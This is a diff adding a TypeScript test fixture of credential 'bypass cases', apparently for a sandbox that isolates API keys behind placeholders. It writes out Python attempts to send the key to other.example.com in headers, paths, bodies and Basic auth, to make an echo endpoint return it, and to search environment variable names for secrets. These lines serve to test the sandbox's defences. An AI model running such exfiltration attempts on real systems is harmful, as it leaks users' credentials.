@@ -1,0 +1,53 @@
+import type { BypassCase } from '../bypass-case.ts'
+
+const key = "os.environ['API_KEY']"
+const elsewhere = { blocked: 'API_KEY' }
+
+/** Ways to a credential's value, or to take its placeholder where it does not belong. */
+export const credentials: readonly BypassCase[] = [
+  {
+    tried: 'a placeholder sent to another declared host, in a header',
+    attack: `get('other.example.com', '/', {'authorization': 'Bearer ' + ${key}})`,
+    ends: elsewhere,
+  },
+  { tried: 'the same in the path', attack: `get('other.example.com', '/' + ${key})`, ends: elsewhere },
+  { tried: 'the same in a body', attack: `get('other.example.com', '/', {}, ${key})`, ends: elsewhere },
+  {
+    tried: 'the same inside Basic authentication',
+    attack: `
+      import base64
+      report = get('other.example.com', '/', {'authorization': 'Basic ' + base64.b64encode(('me:' + ${key}).encode()).decode()})`,
+    ends: elsewhere,
+  },
+  {
+    tried: 'the provider sends the credential back',
+    attack: `'the placeholder' if get('api.example.com', '/echo', {'x-key': ${key}})['body'] == ${key} else 'something else'`,
+    provider: ['/api/echo'],
+    ends: { reports: 'the placeholder' },
+  },
+  {
+    tried: 'the provider sends the credential back in Base64, and in hex',
+    attack: `
+      import hashlib
+      def asked(form):
+          answer = get('api.example.com', '/echo?as=' + form, {'x-key': ${key}})['body']
+          isValue = hashlib.sha256(answer.encode()).hexdigest() in given['credentialDigests']
+          return 'the value' if isValue else 'not the value'
+      report = [asked('base64'), asked('hex')]`,
+    provider: ['/api/echo?as=base64', '/api/echo?as=hex'],
+    ends: { reports: ['not the value', 'not the value'] },
+  },
+  {
+    tried: 'a placeholder of another execution',
+    attack: `
+      theirs = given['neighbour']['placeholder']
+      report = 'nobody’s value' if get('api.example.com', '/echo', {'x-key': theirs})['body'] == theirs else 'something else'`,
+    provider: ['/api/echo'],
+    ends: { reports: 'nobody’s value' },
+  },
+  {
+    tried: 'values in the environment',
+    attack: "sorted(name for name in os.environ if re.search('KEY|SECRET|TOKEN|PASS|AWS|DATABASE|DOCKER', name))",
+    ends: { reports: ['API_KEY'] },
+  },
+]
